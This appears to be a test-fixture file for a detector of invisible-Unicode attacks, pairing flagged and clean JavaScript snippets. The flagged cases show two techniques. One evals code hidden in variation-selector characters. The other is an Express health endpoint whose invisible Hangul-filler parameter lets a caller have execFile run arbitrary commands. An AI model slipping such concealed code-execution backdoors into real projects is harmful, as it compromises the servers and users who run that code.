//: bad selector-payload
const decode = (text) =>
  [...text].map((c) => String.fromCharCode(c.codePointAt(0) - 0xfe00)).join('');

eval(decode(`<|FE00|><|FE01|><|FE02|><|FE03|><|FE04|><|FE05|><|FE06|><|FE07|><|FE08|><|FE09|><|FE0A|><|FE0B|><|FE0C|><|FE0D|><|FE0E|><|FE03|><|FE07|><|FE01|><|FE09|><|FE0C|>`)); //!

//: good selector-payload
const faces = ['❤<|FE0F|>', '☎<|FE0F|>', '✈<|FE0F|>', '☀<|FE0F|>', '✔<|FE0F|>'];

module.exports = (index) => [...faces[index]].map((c) => c.codePointAt(0).toString(16)).join('-');

//: bad filler-parameter
const express = require('express');
const { execFile } = require('child_process');
const app = express();

app.get('/health', async (req, res) => {
  const { timeout, <|3164|> } = req.query; //!
  const checks = ['uptime', <|3164|>];
  for (const each of checks) await new Promise((done) => execFile(each, done));
  res.send('ok');
});

//: good filler-parameter
const express = require('express');
const { execFile } = require('child_process');
const app = express();

app.get('/health', async (req, res) => {
  const { timeout } = req.query;
  const checks = ['uptime', 'whoami'];
  for (const each of checks) await new Promise((done) => execFile(each, { timeout: Number(timeout) }, done));
  res.send('ok');
});
